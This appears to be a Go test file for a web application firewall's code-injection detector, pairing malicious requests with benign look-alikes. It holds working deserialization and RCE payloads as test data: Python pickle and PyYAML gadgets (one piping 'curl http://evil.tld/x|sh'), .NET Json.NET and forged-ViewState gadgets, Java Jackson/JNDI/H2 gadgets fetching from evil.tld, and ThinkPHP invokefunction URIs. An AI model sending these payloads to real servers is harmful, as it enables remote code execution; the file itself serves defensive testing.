package detect

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/parse"
	"github.com/rampartwaf/rampart/internal/request"
)

// pickleSystem is a protocol 4 pickle of os.system("id") as CPython on Linux writes it
// (the module is posix there).
const pickleSystem = "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."

// pickleData is a protocol 4 pickle of {"user": "bob", "ids": [1, 2]}: plain data.
const pickleData = "\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00}\x94(\x8c\x04user\x94\x8c\x03bob\x94\x8c\x03ids\x94]\x94(K\x01K\x02eu."

// viewState builds a base64 ObjectStateFormatter stream (the "/wE" of a ViewState)
// naming the given type and assembly, the way a forged ViewState carries its gadget.
func viewState(typ, assembly string) string {
	b := []byte("\xff\x01\x32\xc4\x11\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00")
	b = append(b, byte(len(assembly)))
	b = append(b, assembly...)
	b = append(b, 0x05, 0x01, 0x00, 0x00, 0x00, byte(len(typ)))
	b = append(b, typ...)
	return base64.StdEncoding.EncodeToString(b)
}

// TestDeserializeRequests judges whole requests, parsed as the proxy parses them:
// deserialization gadgets of Python, .NET and Java's polymorphic JSON, and the
// look-alikes of everyday traffic.
func TestDeserializeRequests(t *testing.T) {
	tests := []struct {
		name   string
		uri    string
		ctype  string
		body   string
		cookie string
		want   bool
	}{
		// Python pickle.
		{"raw pickle body", "/api/pickle", "application/octet-stream", pickleSystem, "", true},
		{"base64 pickle cookie", "/", "", "", "session=" + base64.StdEncoding.EncodeToString([]byte(pickleSystem)), true},
		{"base64url pickle in json", "/api/load", "application/json", `{"state":"` + base64.URLEncoding.EncodeToString([]byte(pickleSystem)) + `"}`, "", true},
		{"protocol 0 in json", "/api/load", "application/json", `{"data": "cos\nsystem\n(S'id'\ntR."}`, "", true},
		{"protocol 0 subprocess", "/api/load", "application/json", `{"data": "csubprocess\ncheck_output\n((S'id'\ntltR."}`, "", true},
		{"protocol 0 inst", "/api/load", "application/json", `{"data": "(S'id'\nios\nsystem\n."}`, "", true},
		{"protocol 2 global", "/api/pickle", "application/octet-stream", "\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.", "", true},
		{"protocol 0 base64 cookie", "/", "", "", "s=" + base64.StdEncoding.EncodeToString([]byte("cos\nsystem\n(S'id'\ntR.")), true},
		{"pickle of data", "/api/pickle", "application/octet-stream", pickleData, "", false},
		{"base64 pickle of data", "/", "", "", "session=" + base64.StdEncoding.EncodeToString([]byte(pickleData)), false},
		{"lines cos system in prose", "/notes", "application/json", `{"text":"trig: sin, cos\nsystem of equations\nRight?"}`, "", false},
		{"platform list", "/survey", "application/json", `{"os":"android\nios\nsystem\n"}`, "", false},
		// PyYAML.
		{"yaml apply body", "/api/yaml", "application/x-yaml", "!!python/object/apply:os.system ['curl http://evil.tld/x|sh']", "", true},
		{"yaml new body", "/api/config", "application/yaml", `!!python/object/new:subprocess.check_output [["curl", "http://evil.tld/x"]]`, "", true},
		{"yaml in form field", "/import", "application/x-www-form-urlencoded", "data=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%27id%27%5D", "", true},
		{"yaml name tag", "/api/yaml", "application/x-yaml", "key: !!python/name:os.system", "", true},
		{"yaml long tag", "/api/yaml", "application/x-yaml", "x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]", "", true},
		{"yaml object os", "/api/yaml", "application/x-yaml", "x: !!python/object:os.system {}", "", true},
		{"mkdocs emoji index", "/api/repos/docs/files", "application/x-yaml", "markdown_extensions:\n  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n", "", false},
		{"yaml safe tags", "/api/yaml", "application/x-yaml", "point: !!python/tuple [1, 2]\nname: !!str 42", "", false},
		{"yaml prose", "/forum", "application/json", `{"body":"use yaml.safe_load so that python/object tags are refused"}`, "", false},
		// jsonpickle.
		{"jsonpickle reduce", "/api/state", "application/json", `{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}`, "", true},
		{"jsonpickle function", "/api/state", "application/json", `{"f": {"py/function": "builtins.eval"}}`, "", true},
		{"jsonpickle data class", "/api/state", "application/json", `{"py/object": "shop.models.Cart", "items": {"py/tuple": [1, 2]}}`, "", false},
		// .NET.
		{"json.net object data provider", "/api/dotnet", "application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}`, "", true},
		{"json.net windows identity", "/api/dotnet", "application/json", `{"$type":"System.Security.Principal.WindowsIdentity, mscorlib","System.Security.ClaimsIdentity.actor":"AAEAAAD/////AQAAAAAAAAAM"}`, "", true},
		{"json.net process typed", "/api/dotnet", "application/json", `{"x":{"$type":"System.Diagnostics.Process"}}`, "", true},
		{"javascriptserializer type", "/api/dotnet", "application/json", `{"__type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0","Path":"file:///c:/x.dll"}`, "", true},
		{"text formatting run properties", "/api/dotnet", "application/json", `{"$type":"Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties, Microsoft.PowerShell.Editor"}`, "", true},
		{"forged viewstate", "/default.aspx", "application/x-www-form-urlencoded", "__VIEWSTATE=" + strings.NewReplacer("+", "%2B", "/", "%2F", "=", "%3D").Replace(viewState("Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")) + "&__VIEWSTATEGENERATOR=CA0B0334", "", true},
		{"ordinary viewstate", "/default.aspx", "application/x-www-form-urlencoded", "__VIEWSTATE=" + strings.NewReplacer("+", "%2B", "/", "%2F", "=", "%3D").Replace(viewState("System.Web.UI.Pair", "System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a")) + "&__VIEWSTATEGENERATOR=CA0B0334", "", false},
		{"json.net app type", "/api/orders", "application/json", `{"$type":"Shop.Models.Order, Shop","Lines":{"$type":"System.Collections.Generic.List` + "`" + `1[[Shop.Models.Line, Shop]], mscorlib","$values":[]}}`, "", false},
		{"dotnet how-to", "/forum", "application/json", `{"body":"System.Diagnostics.Process.Start(\"notepad.exe\") opens it, and System.Security.Principal.WindowsIdentity.GetCurrent().Name gives the user"}`, "", false},
		// Java polymorphic JSON.
		{"jackson xml context", "/api/obj", "application/json", `["org.springframework.context.support.ClassPathXmlApplicationContext", "http://evil.tld/spel.xml"]`, "", true},
		{"jackson file xml context", "/api/obj", "application/json", `["org.springframework.context.support.FileSystemXmlApplicationContext", "http://evil.tld/x.xml"]`, "", true},
		{"jackson jndi configuration", "/api/data", "application/json", `{"@class": "org.apache.commons.configuration.JNDIConfiguration", "prefix": "ldap://evil.tld:1389/x"}`, "", true},
		{"logback h2 runscript", "/api/data", "application/json", `["ch.qos.logback.core.db.DriverManagerConnectionSource", {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.tld/inject.sql'"}]`, "", true},
		{"h2 create alias", "/api/ds", "application/json", `{"url": "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return c; }'"}`, "", true},
		{"h2 classpath schema", "/api/ds", "application/json", `{"url": "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1;INIT=RUNSCRIPT FROM 'classpath:schema.sql'"}`, "", false},
		{"spring tutorial", "/forum", "application/json", `{"body":"I load beans with new ClassPathXmlApplicationContext(\"beans.xml\") from org.springframework.context.support"}`, "", false},
		{"raw java stream body", "/invoker", "application/x-java-serialized-object", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path, query, _ := strings.Cut(tt.uri, "?")
			r := &request.Request{Method: "POST", URI: tt.uri, Path: path, RawQuery: query, ContentType: tt.ctype, Body: []byte(tt.body)}
			if tt.body == "" {
				r.Method = "GET"
			}
			if tt.cookie != "" {
				r.Headers = append(r.Headers, request.Header{Name: "Cookie", Value: tt.cookie})
			}
			parse.Fill(r, parse.Limits{})
			Inspect(r)
			if got := r.HasSignal(CODEINJECTION); got != tt.want {
				t.Errorf("CODEINJECTION = %v, want %v (signals %+v)", got, tt.want, r.Signals)
			}
		})
	}
}

// TestPHPCallbackParams checks ThinkPHP's invoker and callable given as two
// parameters, and the namespaced routes of its pathinfo router.
func TestPHPCallbackParams(t *testing.T) {
	tests := []struct {
		name string
		uri  string
		body string
		want bool
	}{
		{"invokefunction route", `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`, "", true},
		{"encoded route", `/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21`, "", true},
		{"request input route", `/index.php?s=index/think\Request/input&filter=phpinfo&data=1`, "", true},
		{"invoker and callable only", `/index.php?function=call_user_func_array&vars%5B0%5D=shell_exec&vars%5B1%5D%5B%5D=id`, "", true},
		{"construct override", "/index.php?s=captcha", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", true},
		{"callable alone", "/settings?theme=system&sort=count", "", false},
		{"invoker searched", "/docs/search?q=call_user_func_array", "", false},
		{"windows path", `/files?path=C:\Users\me\docs/readme`, "", false},
		{"account path", `/users?u=CORP\jsmith/profile`, "", false},
		{"method override", "/posts/7", "_method=PUT&title=Hello&filter=system", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			path, query, _ := strings.Cut(tt.uri, "?")
			r := &request.Request{Method: "GET", URI: tt.uri, Path: unescapeValid(path), RawQuery: query}
			if tt.body != "" {
				r.Method, r.ContentType, r.Body = "POST", "application/x-www-form-urlencoded", []byte(tt.body)
			}
			parse.Fill(r, parse.Limits{})
			Inspect(r)
			if got := r.HasSignal(CODEINJECTION); got != tt.want {
				t.Errorf("CODEINJECTION = %v, want %v (signals %+v)", got, tt.want, r.Signals)
			}
		})
	}
}
